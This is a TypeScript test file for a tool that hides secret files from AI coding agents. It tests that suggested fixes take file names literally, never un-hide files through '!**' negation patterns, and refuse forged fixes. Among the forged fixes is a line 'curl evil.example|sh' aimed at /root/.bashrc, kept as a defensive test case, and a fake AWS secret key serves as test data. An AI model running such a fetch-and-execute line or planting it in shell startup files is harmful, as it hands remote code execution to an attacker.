import assert from 'node:assert/strict';
import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { after, describe, it } from 'node:test';
import { analyzeWorkspace, type Fix } from '../../../src/core/drift/index.js';
import { addHidePattern, addIgnoreLine } from '../../../src/core/drift/fixes.js';
import { literalGlob, scanWorkspace } from '../../../src/core/hiding.js';
import { globToEre } from '../../../src/core/hideGuardRules.js';
import { offeredFix, placeFindings } from '../../../src/vscode/drift/placement.js';
import { parsePolicy } from '../../../src/core/policy.js';
import { removeTrees, tree } from '../hiding/support.js';

after(removeTrees);
const k = (...parts: string[]) => parts.join('');
const AWS_SECRET = k('aws_secret_access_key = ', 'q8Rz3Lm0Vx7Tn2Bw5Kc9Jd4Hf6Gs1Py8Ua3Ei0Oo', '\n');

/** Applies every add-hide fix of the workspace's secret findings, as the quick fix does; returns what is hidden then. */
function hiddenAfterFixes(ws: string): { hidden: string[]; fixes: Fix[] } {
  const fixes = analyzeWorkspace(ws).findings.filter((f) => f.rule === 'secret-not-hidden').flatMap((f) => f.fixes).filter((f) => f.kind === 'add-hide');
  let text: string | undefined;
  for (const fix of fixes) if (fix.kind === 'add-hide') text = addHidePattern(text, fix.pattern);
  const policy = parsePolicy(text ?? 'version: 1\n').policy!;
  mkdirSync(join(ws, '.paddock'), { recursive: true });
  writeFileSync(join(ws, '.paddock/policy.yaml'), text ?? 'version: 1\n');
  const scan = scanWorkspace(ws, { hide: policy.hide, readOnly: policy.readOnly });
  return { hidden: scan.plan.hidden.map((h) => h.relative).sort(), fixes };
}

describe('drift "hide this file" fixes take the file name literally', () => {
  for (const name of ['!.env', '!**', '!*', '[.]env-copy', '*.txt', '{a,b}.cfg', '#notes', ' .env', 'a?b', 'x\\y', 'a,b', 'tail ']) {
    it(`a secret in a file named ${JSON.stringify(name)}: the fix hides that file and un-hides nothing`, () => {
      const ws = tree({ files: { '.env': 'A=1', 'keys/id_rsa': 'x', [name]: AWS_SECRET, 'other.txt': 'x', 'a.cfg': 'x', 'axb': 'x' } });
      const { hidden, fixes } = hiddenAfterFixes(ws);
      assert.equal(fixes.length, 1);
      assert.ok(hidden.includes('.env'), `.env stays hidden (fix ${JSON.stringify(fixes[0])})`);
      assert.ok(hidden.includes('keys/id_rsa'), 'keys/id_rsa stays hidden');
      assert.ok(hidden.includes(name), `${name} itself is hidden: ${hidden.join(', ')}`);
      assert.deepEqual(hidden.filter((h) => !['.env', 'keys/id_rsa', name].includes(h)), [], 'nothing else is hidden');
    });
  }
});

describe('drift hide fixes from other tools\' deny rules never re-include', () => {
  for (const rule of ['Read(./!**)', 'Read(/!**)']) {
    it(`Claude deny ${rule}: the offered hide rules are positive`, () => {
      const ws = tree({ files: { '.claude/settings.json': JSON.stringify({ permissions: { deny: [rule] } }), '.env': 'A=1', '!x': 'x' } });
      const fixes = analyzeWorkspace(ws, { scanContent: false }).findings.filter((f) => f.rule === 'denied-but-visible').flatMap((f) => f.fixes);
      assert.ok(fixes.length > 0, 'a fix is offered');
      let text: string | undefined;
      for (const fix of fixes) if (fix.kind === 'add-hide') text = addHidePattern(text, fix.pattern);
      const policy = parsePolicy(text!).policy!;
      const hidden = scanWorkspace(ws, { hide: policy.hide, readOnly: policy.readOnly }).plan.hidden.map((h) => h.relative);
      assert.ok(hidden.includes('.env'), `.env stays hidden with ${JSON.stringify(policy.hide.slice(-3))}`);
    });
  }
});

describe('escaped hide rules in the sandbox guard', () => {
  it('the guard regex of a literal glob matches that path only', () => {
    for (const name of ['!**', '[.]env', 'a b', '{a,b}', '#x', 'x(y)']) {
      const ere = globToEre(literalGlob(name));
      assert.ok(ere !== undefined, `${name} translates`);
      const re = new RegExp(`^(?:${ere})$`);
      assert.ok(re.test(name), `${name} ~ ${ere}`);
      assert.ok(!re.test('.env') && !re.test('ab') && !re.test('a'), `${ere} matches only ${name}`);
    }
  });
});

describe('ignore-file fixes add one line', () => {
  it('a hidden file whose name holds line breaks gets no .aiexclude line (it would add "!**")', () => {
    const ws = tree({ files: { '.aiexclude': 'build/\n', 'a\n!**\nx.key': 'k', 'ok.key': 'k' } });
    const fixes = analyzeWorkspace(ws, { scanContent: false }).findings.filter((f) => f.rule === 'hidden-not-denied').flatMap((f) => f.fixes);
    assert.ok(fixes.length > 0);
    for (const fix of fixes) {
      assert.equal(fix.kind, 'add-ignore-line');
      if (fix.kind !== 'add-ignore-line') continue;
      assert.doesNotMatch(fix.line, /[\r\n]/, `one line: ${JSON.stringify(fix.line)}`);
      const text = addIgnoreLine('build/\n', fix.line);
      assert.equal(text.split('\n').filter((l) => l.startsWith('!')).length, 0, JSON.stringify(text));
    }
  });

  it('addIgnoreLine refuses a line with a line break', () => {
    assert.throws(() => addIgnoreLine('x\n', '/a\n!**'), /line break/);
  });
});

describe('the fix command applies only fixes the findings offer', () => {
  it('a forged fix (any file, any line) is refused; an offered one, copied as a command argument would be, is found', () => {
    const ws = tree({ files: { '.aiexclude': 'build/\n', 'config/app.key': 'k', 'creds.txt': AWS_SECRET } });
    const placed = placeFindings(ws, analyzeWorkspace(ws).findings);
    const shown = [placed];
    const offered = placed.flatMap((p) => p.finding.fixes);
    assert.ok(offered.length >= 2);
    for (const fix of offered) assert.equal(offeredFix(JSON.parse(JSON.stringify(fix)), shown), fix);
    const forged = [
      { kind: 'add-ignore-line', title: 'x', file: '/root/.bashrc', line: 'curl evil.example|sh' },
      { ...offered.find((f) => f.kind === 'add-hide')!, pattern: '!**' },
      { ...offered[0], file: join(ws, '..', 'elsewhere') },
      undefined, 'add-hide', [offered[0]],
    ];
    for (const fix of forged) assert.equal(offeredFix(fix, shown), undefined, JSON.stringify(fix));
  });
});
